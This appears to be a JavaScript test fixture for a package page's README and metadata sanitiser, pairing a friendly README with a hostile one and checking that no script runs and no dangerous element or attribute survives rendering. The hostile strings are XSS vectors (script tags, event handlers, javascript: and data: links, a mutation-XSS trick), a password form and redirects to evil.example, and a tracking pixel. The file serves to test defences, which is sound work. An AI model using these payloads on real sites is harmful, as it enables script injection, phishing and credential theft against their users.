// What an author may try: none of it may run, load, submit or navigate. The tour's author tries nothing.
import { tour } from "./stage.mjs";

const payload = "globalThis.__ran = true";

const friendly = `# Hello

A **small** package with a table, a [link](https://docs.example.com/) and code.

| option | meaning |
|---|---|
| \`loud\` | says it aloud |

\`\`\`js
import hello from "@acme/hello";
\`\`\`
`;

const hostile = `
<script>${payload}</script>
<img src=x onerror="${payload}">
<svg onload="${payload}"><script>${payload}</script></svg>
<iframe srcdoc="<script>parent.__ran = true</script>"></iframe>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;"></table></mtext></math>
<details open ontoggle="${payload}"><summary>More</summary></details>
<a href="javascript:${payload}">click</a> [click](javascript:${payload}) [click](data:text/html,<script>${payload}</script>)
<a href=" &#1; javascript:${payload}">click</a> <a href="//evil.example/">elsewhere</a>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<object data="javascript:${payload}"></object><embed src="javascript:${payload}">
<div style="position:fixed;inset:0" id="root" class="bar">cover</div>
![tracker](https://evil.example/pixel.png)
`;

export const readme = tour ? friendly : friendly + hostile;

const friendlyTexts = { description: "a package that says hello", keywords: ["hello"] };

const hostileTexts = {
  description: `<img src=x onerror="${payload}"> {{7*7}} a package that says hello`,
  keywords: [`<script>${payload}</script>`, "\"><svg onload=1>", "hello"],
  homepage: "javascript:" + payload,
  author: `<b onmouseover="${payload}">Eve</b>`,
};

export const texts = tour ? friendlyTexts : hostileTexts;

/** What remains in the page of all that; empty if nothing does. */
export function leftovers() {
  const left = [];
  if (globalThis.__ran) {
    left.push("a script of the author's ran");
  }
  const inside = document.querySelector(".readme");
  const bad = "script, iframe, object, embed, form, input, style, link, base, meta, svg, math, img";
  for (const element of inside.querySelectorAll(bad)) {
    left.push(element.outerHTML);
  }
  for (const element of inside.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const own = element.tagName === "A" && ["href", "rel", "target"].includes(name);
      const plain = ["title", "open", "align", "colspan", "rowspan", "start"].includes(name);
      if (!plain && !(own && !(name === "href" && !/^https?:\/\//.test(value)))) {
        left.push(`${element.tagName} ${name}=${value}`);
      }
    }
  }
  for (const link of document.querySelectorAll("a[href]")) {
    if (!/^https?:$/.test(link.protocol)) {
      left.push(link.outerHTML);
    }
  }
  return left;
}
